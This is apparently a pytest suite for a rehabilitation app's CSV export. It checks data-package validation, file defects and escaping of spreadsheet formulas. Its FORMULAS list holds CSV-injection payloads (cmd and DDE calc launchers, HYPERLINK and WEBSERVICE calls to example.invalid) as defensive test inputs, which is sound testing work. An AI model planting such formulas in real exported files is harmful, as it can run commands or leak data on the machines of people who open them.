"""CSV as others read it: a data package's checker, a spreadsheet, Python's own reader."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import frictionless
import pytest
from hypothesis import given
from hypothesis import strategies as st

from export_samples import NOTE, sixty_sessions, tables_of
from profiles import tries
from reloadpt.share.csv_files import cell, escape_formula, unescape_formula
from reloadpt.share.datapackage import ExportScope
from reloadpt.share.exporting import write_tables
from reloadpt.share.rows import TABLES, table_columns
from reloadpt.share.tables import tables_of_log
from sample_logs import HOSTILE, a_plan, at, begins, course, item, sat

COLUMNS = [
    "patient_id",
    "plan_id",
    "session_id",
    "session_date",
    "session_start",
    "timezone",
    "exercise_id",
    "exercise_name",
    "muscle",
    "phase",
    "intent",
    "side",
    "set_number",
    "status",
    "skip_reason",
    "planned_reps",
    "done_reps",
    "planned_hold_s",
    "done_hold_s",
    "planned_load_kg",
    "done_load_kg",
    "seconds",
    "source",
    "pain_during_0_10",
    "effort_0_10",
    "note",
    "confirmed",
]

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    '=IMPORTXML("http://example.invalid","//a")',
    '=WEBSERVICE("http://example.invalid")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
)
RUN = ("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid?x="&A1,"click")')
"""Those of them that LibreOffice runs where nothing keeps it from that."""


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sixty")
    told = tables_of(sixty_sessions(folder / "journal.jsonl"))
    write_tables([told], folder / "out", ExportScope("csv"))
    return folder / "out"


@pytest.fixture
def copy(export: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(export, tmp_path / "copy"))


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def is_valid(folder: Path) -> bool:
    return bool(frictionless.validate(str(folder / "datapackage.json")).valid)


def test_the_columns_of_the_sets_are_those_agreed(export: Path) -> None:
    lines = (export / "sets.csv").read_bytes().split(b"\r\n")
    assert lines[0].decode().split(",") == COLUMNS
    assert lines[-1] == b""
    assert {each["status"] for each in rows(export / "sets.csv")} == {"done", "skipped", "not_opened"}


def test_every_line_ends_with_cr_lf_and_no_cell_is_an_offset(export: Path) -> None:
    for name in TABLES:
        data = (export / f"{name}.csv").read_bytes()
        assert data.endswith(b"\r\n")
        assert not data.startswith(b"\xef\xbb\xbf")
        for row in rows(export / f"{name}.csv"):
            assert not any(value.startswith(("+", "-")) for value in row.values())


def test_frictionless_passes_sixty_sessions(export: Path) -> None:
    assert is_valid(export)


def replaced(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        assert old in data
        return data.replace(old, new, 1)

    return change


def in_cell(column: str, value: str, row: int = 1) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        lines = data.split(b"\r\n")
        cells = lines[row].split(b",")
        cells[COLUMNS.index(column)] = value.encode()
        lines[row] = b",".join(cells)
        return b"\r\n".join(lines)

    return change


DEFECTS: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda data: data[:0],
    "a header renamed": replaced(b"exercise_id", b"exercise"),
    "a header twice": replaced(b"timezone", b"plan_id"),
    "a column without a header": replaced(b"effort_0_10,note", b"effort_0_10,"),
    "a cell too many": replaced(b",done,", b",,done,"),
    "a cell missing": replaced(b",done,", b","),
    "an empty line": replaced(b"\r\n", b"\r\n\r\n"),
    "no UTF-8": replaced(b"A-17", b"A-\xff7"),
    "a number that is none": in_cell("set_number", "one"),
    "a day that is none": in_cell("session_date", "22.11.2026"),
    "a time that is none": in_cell("session_start", "noon"),
    "a score above ten": in_cell("pain_during_0_10", "11"),
    "a set below one": in_cell("set_number", "0"),
    "a status nobody knows": in_cell("status", "finished"),
    "a patient missing": in_cell("patient_id", ""),
    "a load below nothing": in_cell("planned_load_kg", "-2"),
}


@pytest.mark.parametrize("defect", DEFECTS)
def test_a_defect_fails_by_the_dictionary_alone(copy: Path, defect: str) -> None:
    sets, index = copy / "sets.csv", copy / "datapackage.json"
    sets.write_bytes(DEFECTS[defect](sets.read_bytes()))
    told = json.loads(index.read_text(encoding="utf-8"))
    told["resources"] = [each for each in told["resources"] if each["name"] == "sets"]
    del told["resources"][0]["hash"], told["resources"][0]["bytes"]
    index.write_text(json.dumps(told), encoding="utf-8")
    assert not is_valid(copy)


@pytest.mark.parametrize(
    "change",
    [replaced(b",done,,10,10", b",done,,10,11"), lambda data: data[:-200]],
    ids=["a figure", "the end"],
)
def test_what_only_the_hash_can_see_fails_too(copy: Path, change: Callable[[bytes], bytes]) -> None:
    sets = copy / "sets.csv"
    sets.write_bytes(change(sets.read_bytes()))
    assert not is_valid(copy)


def test_a_table_missing_fails(copy: Path) -> None:
    (copy / "checkins.csv").unlink()
    assert not is_valid(copy)


def test_notes_stand_once_and_as_they_were_written(export: Path) -> None:
    told = [row["note"] for row in rows(export / "sessions.csv") if row["note"]]
    assert [unescape_formula(note) for note in told] == [NOTE]
    assert [row["note"] for row in rows(export / "sets.csv") if row["note"]] == told


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_one_apostrophe_and_can_be_read_back(text: str) -> None:
    assert escape_formula(text) == f"'{text}"
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize(
    "text", ["", "knee", "3-1-3", "a=b", "'tis sore", "10 %", "x@example.invalid", "(=1)"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text == unescape_formula(text)


@tries(60)
@given(st.text())
def test_any_text_is_read_back_but_for_control_characters(text: str) -> None:
    kept = "".join(
        sign for sign in text if sign in "\t\r\n" or not (ord(sign) < 32 or 127 <= ord(sign) < 160)
    )
    kept = "".join(sign for sign in kept if not 0xD800 <= ord(sign) < 0xE000)
    assert unescape_formula(escape_formula(text)) == kept


def test_numbers_never_get_an_apostrophe() -> None:
    fields = {field.name: field for field in table_columns("sets")}
    told = {cell(fields["seconds"], value) for value in (-1.5, 30.0, 0.1)}
    assert told == {"-1.5", "30", "0.1"}
    assert cell(fields["session_date"], date(2026, 11, 22)) == "2026-11-22"
    assert cell(fields["session_start"], datetime(2026, 11, 22, 9, tzinfo=UTC)) == "2026-11-22T09:00:00+00:00"
    assert cell(fields["note"], None) == ""


def opened_in_a_spreadsheet(folder: Path, *files: Path) -> list[list[list[tuple[str, str]]]]:
    """Every cell, row by row, as LibreOffice took it: its formula, or nothing, and the text it shows."""
    subprocess.run(
        ["soffice", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to",
         "fods", "--infilter=CSV:44,34,76,1", "--outdir", folder / "out", *files],
        check=True, capture_output=True,
    )  # fmt: skip
    return [cells_of(folder / "out" / f"{file.stem}.fods") for file in files]


def cells_of(path: Path) -> list[list[tuple[str, str]]]:
    table = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    text = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}p"
    return [
        [
            (each.get(f"{table}formula", ""), "\n".join("".join(p.itertext()) for p in each.iter(text)))
            for each in row.iter(f"{table}table-cell")
            for _ in range(int(each.get(f"{table}number-columns-repeated", "1")))
        ]
        for row in ElementTree.parse(path).getroot().iter(f"{table}table-row")  # noqa: S314
    ]


def test_a_spreadsheet_takes_no_text_of_ours_for_a_formula(tmp_path: Path) -> None:
    log: list[Any] = [(at(0), begins(complaint=FORMULAS[0], patient=FORMULAS[1]))]
    for day, text in enumerate((*FORMULAS, *HOSTILE), start=1):
        log += sat(day, None, item(name=text, resistance=text, muscle=text))
    told = tables_of_log(course(*log), patient_id=FORMULAS[2])
    write_tables([told], tmp_path / "csv", ExportScope("csv"))
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([[text] for text in FORMULAS])
    ours = [tmp_path / "csv" / f"{name}.csv" for name in TABLES]
    as_is, *sheets = opened_in_a_spreadsheet(tmp_path, raw, *ours)
    assert {formula for row in as_is for formula, _ in row if formula}, "the check itself sees formulas"
    assert sum(bool(formula) for row in as_is for formula, _ in row) >= len(RUN)
    for name, sheet in zip(TABLES, sheets, strict=True):
        assert [formula for row in sheet for formula, _ in row if formula] == [], name
    shown = [dict(zip(COLUMNS, row, strict=False)) for row in sheets[[*TABLES].index("sets")][1:]]
    for text in FORMULAS:
        wanted = " ".join(f"'{text}".split())
        assert any(" ".join(row["exercise_name"][1].split()) == wanted for row in shown if row), text


def test_a_plan_that_nobody_followed_has_its_denominators_in_the_file(tmp_path: Path) -> None:
    from reloadpt.journal.events import PlanStarted
    from sample_logs import dues, rated

    told = tables_of_log(course((at(0), PlanStarted(plan=a_plan().as_json())), *dues(1, 3), rated(4, 3)))
    write_tables([told], tmp_path / "out", ExportScope("csv"))
    found = rows(tmp_path / "out" / "sets.csv")
    assert {row["session_date"] for row in found} == {"2026-11-21", "2026-11-22", "2026-11-23"}
    assert {row["status"] for row in found} == {"not_opened"}
    assert {row["session_id"] for row in found} == {""}
    assert is_valid(tmp_path / "out")
